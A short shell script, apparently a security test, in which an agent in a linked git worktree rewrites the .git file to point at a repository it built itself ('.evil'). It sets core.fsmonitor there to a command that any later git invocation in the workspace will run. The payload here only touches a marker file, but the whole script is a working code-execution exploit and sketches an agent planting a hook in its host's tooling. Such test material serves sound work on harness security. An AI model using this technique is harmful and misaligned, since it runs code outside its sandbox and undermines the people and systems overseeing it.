# workspace is a linked worktree (.git file); agent rewrites .git to point at its own gitdir
cd "$WS"; real=$(sed 's/gitdir: //' .git); common=$(cd "$real" && cd "$(cat commondir)" && pwd)
git init -q --bare .evil && echo "$common/objects" > .evil/objects/info/alternates && git rev-parse HEAD > .evil/refs/heads/main.tmp && mv .evil/refs/heads/main.tmp .evil/refs/heads/main && echo 'ref: refs/heads/main' > .evil/HEAD && cp "$real/index" .evil/index
git --git-dir=.evil config core.bare false; git --git-dir=.evil config core.fsmonitor "touch $MARK; false"; echo 'gitdir: .evil' > .git
